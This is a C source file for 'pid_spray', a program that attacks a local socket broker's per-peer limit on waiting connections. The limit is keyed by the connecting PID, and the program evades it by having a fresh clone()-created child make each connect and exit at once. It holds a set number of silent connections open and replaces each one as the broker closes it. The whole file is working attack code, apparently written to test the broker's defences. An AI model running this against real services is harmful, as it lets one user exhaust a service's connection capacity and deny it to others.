/*
 * A PID spray against the broker's per-peer bound on waiting connections.
 *
 * The broker keys its fairness rule by the PID SO_PEERCRED reports, which
 * is the PID of whichever process called connect().  This attacker creates
 * every socket itself and has a fresh child, made with
 * clone(CLONE_VM | CLONE_FILES | CLONE_VFORK), connect it and exit at once:
 * the child shares the memory and the descriptor table, so it costs no copy,
 * and the parent keeps the connected socket.  No PID ever holds two waiting
 * connections, and the connector of each is gone (reaped) a few microseconds
 * after connecting.  It never writes a byte.
 *
 * Usage: pid_spray PATH COUNT
 *
 * Keeps COUNT connections open (connects are non-blocking; one refused with
 * EAGAIN, the listen backlog being full, is tried again a millisecond
 * later), each replaced the moment the broker closes it.  Prints "ready"
 * once COUNT connects were tried, then "spraying" each time the broker has
 * closed COUNT of them; runs until killed.
 */

#define _GNU_SOURCE
#include <errno.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

static struct sockaddr_un address;
static socklen_t address_length;
/* Shared with the child (CLONE_VM): the socket it connects, and its errno. */
static int child_socket;
static int child_error;
static char child_stack[64 * 1024] __attribute__((aligned(16)));

static int connector(void *unused)
{
    (void)unused;
    child_error = connect(child_socket, (struct sockaddr *)&address, address_length) == 0
        ? 0 : errno;
    /* exit(2), not exit_group: only this child ends. */
    syscall(SYS_exit, 0);
    return 0;
}

static void die(const char *what)
{
    perror(what);
    exit(1);
}

/* One connection from a fresh child; 0, or the connect's errno. */
static int open_one(int poller)
{
    int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
    if (fd < 0)
        die("socket");
    child_socket = fd;
    child_error = 0;
    pid_t child = clone(connector, child_stack + sizeof child_stack,
                        CLONE_VM | CLONE_FILES | CLONE_VFORK | SIGCHLD, NULL);
    if (child < 0)
        die("clone");
    /* CLONE_VFORK: the child has exited by now; reap it so its PID is free. */
    if (waitpid(child, NULL, __WALL) != child)
        die("waitpid");
    if (child_error) {
        close(fd);
        if (child_error != EAGAIN)
            die("connect");
        return child_error;
    }
    struct epoll_event event = {.events = EPOLLIN, .data.fd = fd};
    if (epoll_ctl(poller, EPOLL_CTL_ADD, fd, &event) < 0)
        die("epoll_ctl");
    return 0;
}

int main(int argc, char **argv)
{
    if (argc != 3) {
        fprintf(stderr, "usage: pid_spray PATH COUNT\n");
        return 2;
    }
    size_t length = strlen(argv[1]);
    if (length >= sizeof address.sun_path) {
        fprintf(stderr, "path too long\n");
        return 2;
    }
    address.sun_family = AF_UNIX;
    memcpy(address.sun_path, argv[1], length + 1);
    address_length = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + length + 1);
    long count = strtol(argv[2], NULL, 10);
    int poller = epoll_create1(EPOLL_CLOEXEC);
    if (poller < 0)
        die("epoll_create1");
    long retry = 0;
    for (long i = 0; i < count; i++)
        if (open_one(poller))
            retry++;
    printf("ready\n");
    fflush(stdout);
    long closed = 0;
    struct epoll_event events[512];
    for (;;) {
        int ready = epoll_wait(poller, events, 512, retry ? 1 : -1);
        if (ready < 0) {
            if (errno == EINTR)
                continue;
            die("epoll_wait");
        }
        for (int i = 0; i < ready; i++) {
            /* The broker closed it (it never answers a silent connection). */
            close(events[i].data.fd);
            if (++closed % count == 0) {
                printf("spraying\n");
                fflush(stdout);
            }
            if (open_one(poller))
                retry++;
        }
        long pending = retry;
        retry = 0;
        for (long i = 0; i < pending; i++)
            if (open_one(poller))
                retry++;
    }
}
